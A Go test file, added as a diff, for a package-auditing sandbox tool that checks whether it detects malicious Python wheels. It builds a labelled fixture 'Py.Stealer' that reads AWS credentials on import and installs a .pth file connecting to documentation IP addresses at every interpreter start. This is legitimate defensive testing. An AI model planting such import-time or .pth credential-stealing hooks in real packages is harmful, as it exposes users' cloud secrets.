@@ -1,0 +1,168 @@
+package audit_test
+
+import (
+	"context"
+	"errors"
+	"os"
+	"os/exec"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/depbox/depbox/internal/audit"
+	"github.com/depbox/depbox/internal/audit/audittest"
+	"github.com/depbox/depbox/internal/scan"
+	"github.com/depbox/depbox/profile"
+)
+
+// The Python fixtures: wheels written by the test (no build step), served
+// by a PEP 503 index on loopback. Their code runs only inside depbox's
+// sandbox and contacts only documentation addresses.
+var (
+	pyHelper = audittest.Wheel{Name: "py-helper", Version: "2.0",
+		Files: map[string]string{"py_helper/__init__.py": "def pad(s):\n    return ' ' + s\n"}}
+	// pyStealer reads the bait credentials and connects to 198.51.100.23:443
+	// when imported, and installs a .pth file whose code sends a canary's
+	// name to 192.0.2.44:443 at every interpreter start.
+	pyStealer = audittest.Wheel{Name: "Py.Stealer", Version: "1.0", Requires: []string{"py-helper>=2"},
+		Files: map[string]string{
+			"py_stealer/__init__.py": "# TEST FIXTURE imitating a credential stealer; runs only in depbox's sandbox.\n" +
+				"import os, socket\nimport py_helper\n" +
+				"try:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n" +
+				"s = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('198.51.100.23', 443))\nexcept OSError:\n    pass\n",
+			"py_stealer_boot.py": "# TEST FIXTURE: a .pth payload; runs only in depbox's sandbox.\n" +
+				"import os, socket\nk = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n" +
+				"s = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('192.0.2.44', 443))\nexcept OSError:\n    pass\n",
+			"py_stealer.pth": "import py_stealer_boot\n",
+		}}
+)
+
+// requirePip skips (in CI: fails) when the sandbox's Python has no pip.
+func requirePip(t *testing.T) {
+	t.Helper()
+	if out, err := exec.Command(scan.DefaultPython, "-m", "pip", "--version").CombinedOutput(); err != nil {
+		if os.Getenv("CI") == "true" {
+			t.Fatalf("pypi: audits need pip for %s (apt-get install python3-pip): %v %s", scan.DefaultPython, err, out)
+		}
+		t.Skipf("no pip for %s (apt-get install python3-pip): %v", scan.DefaultPython, err)
+	}
+}
+
+// pypiSource downloads from ix only, ignoring this machine's pip
+// configuration and cache.
+func pypiSource(ix *audittest.Index) *audit.PyPI {
+	return &audit.PyPI{IndexURL: ix.URL, Env: []string{"PIP_CONFIG_FILE=/dev/null", "PIP_NO_CACHE_DIR=1"}}
+}
+
+// TestAuditPyPI audits a Python distribution from a PEP 503 index the test
+// serves on loopback, in the real sandbox: pip resolves and downloads the
+// wheel and its dependency's (hashes checked), and the profile shows the
+// stealer's bait read and connection in its import phase and its .pth
+// payload in the startup phase, its dependency clean. The same bytes as a
+// local wheel share the cached result.
+func TestAuditPyPI(t *testing.T) {
+	requirePip(t)
+	a, scans := auditor(t)
+	ix := audittest.NewIndex(t, pyHelper, pyStealer)
+	a.PyPI = pypiSource(ix)
+	spec, err := audit.ParseSpec("pypi:py-stealer@1.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	r, err := a.Audit(context.Background(), spec)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Profile.Incomplete {
+		t.Fatalf("incomplete: %+v", r.Profile.Problems)
+	}
+	if r.Name != "Py.Stealer" || r.Version != "1.0" || r.Path != pyStealer.DistInfo() || !strings.HasPrefix(r.Integrity, "sha512-") {
+		t.Errorf("result %s %s at %s, integrity %s", r.Name, r.Version, r.Path, r.Integrity)
+	}
+	if r.Profile.Bundle.Name != "Py.Stealer@1.0" || r.Label() != "pypi:Py.Stealer@1.0" {
+		t.Errorf("bundle %q, label %q", r.Profile.Bundle.Name, r.Label())
+	}
+	imp := phase(t, r, profile.PhaseImport)
+	if !hasFile(imp, "/home/sbx_user/.aws/credentials") || !hasPeer(imp, "198.51.100.23", 443) {
+		t.Errorf("import phase: no bait read or connection: files %+v network %+v", imp.Files, imp.Network)
+	}
+	if st := phase(t, r, profile.PhaseStartup); !hasPeer(st, "192.0.2.44", 443) || !slices.Contains(st.Env, "AWS_SECRET_ACCESS_KEY") {
+		t.Errorf("startup phase: the .pth payload's read and connection are missing: %+v", st)
+	}
+	helper := r.Profile.Dependency(pyHelper.DistInfo())
+	if helper == nil {
+		t.Fatalf("the dependency %s is not in the profile: %+v", pyHelper.DistInfo(), r.Profile.Dependencies)
+	}
+	if b := helper.Phases[profile.PhaseImport]; b == nil || !b.Empty() {
+		t.Errorf("py-helper should do nothing of its own: %+v", b)
+	}
+	served := ix.Served()
+	for _, want := range []string{"/simple/py-stealer/", "/simple/py-helper/", "/files/" + pyStealer.FileName(), "/files/" + pyHelper.FileName()} {
+		if !slices.Contains(served, want) {
+			t.Errorf("the index never served %s: %v", want, served)
+		}
+	}
+	if n := scans.Load(); n != 1 {
+		t.Fatalf("%d sandbox runs, want 1", n)
+	}
+	// A local wheel of the same bytes: the same result, from the cache.
+	file := audittest.WriteWheel(t, t.TempDir(), pyStealer)
+	ws, err := audit.ParseSpec(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	lr, err := a.Audit(context.Background(), ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !lr.Cached || lr.Integrity != r.Integrity || lr.Path != r.Path || scans.Load() != 1 {
+		t.Errorf("local wheel: cached %v, integrity %s (want %s), path %s, %d sandbox runs", lr.Cached, lr.Integrity, r.Integrity, lr.Path, scans.Load())
+	}
+}
+
+// TestPyPIResolveFailsClosed checks, with pip against a loopback index and
+// no sandbox (nothing of the package runs on the host: pip only downloads
+// wheels), that a file whose bytes do not match the sha256 the index lists
+// is an integrity failure, that a distribution with no wheel, or no such
+// version, is the input's fault, and that the files are hashed.
+func TestPyPIResolveFailsClosed(t *testing.T) {
+	requirePip(t)
+	ix := audittest.NewIndex(t, pyHelper, pyStealer)
+	src := pypiSource(ix)
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
+	defer cancel()
+	r, err := src.Resolve(ctx, audit.Spec{Ecosystem: audit.EcosystemPyPI, Name: "py_helper"}, t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Name != "py-helper" || r.Version != "2.0" || r.Path != pyHelper.DistInfo() {
+		t.Errorf("resolved %s %s at %s", r.Name, r.Version, r.Path)
+	}
+	if want, err := audit.Integrity(audittest.WriteWheel(t, t.TempDir(), pyHelper)); err != nil || r.Integrity != want {
+		t.Errorf("integrity %s, want %s (%v)", r.Integrity, want, err)
+	}
+	for _, tt := range []struct {
+		name  string
+		spec  audit.Spec
+		input bool
+	}{
+		{"no such version", audit.Spec{Ecosystem: audit.EcosystemPyPI, Name: "py-helper", Version: "9.9"}, true},
+		{"no such distribution", audit.Spec{Ecosystem: audit.EcosystemPyPI, Name: "nothing-here", Version: "1.0"}, true},
+	} {
+		_, err := src.Resolve(ctx, tt.spec, t.TempDir())
+		t.Logf("%s: %v", tt.name, err)
+		if err == nil || audit.IsInput(err) != tt.input {
+			t.Errorf("%s: %v (input error: %v, want %v)", tt.name, err, audit.IsInput(err), tt.input)
+		}
+	}
+	// The dependency's bytes change; the index still lists the old hash.
+	bad := pyHelper
+	bad.Files = map[string]string{"py_helper/__init__.py": "# TEST FIXTURE: tampered; never run.\nraise SystemExit(1)\n"}
+	ix.Tamper(pyHelper, bad.Bytes(t))
+	_, err = src.Resolve(ctx, audit.Spec{Ecosystem: audit.EcosystemPyPI, Name: "py-stealer", Version: "1.0"}, t.TempDir())
+	t.Logf("tampered: %v", err)
+	if !errors.Is(err, audit.ErrIntegrity) || audit.IsInput(err) {
+		t.Errorf("a tampered wheel: %v, want an integrity failure", err)
+	}
+}
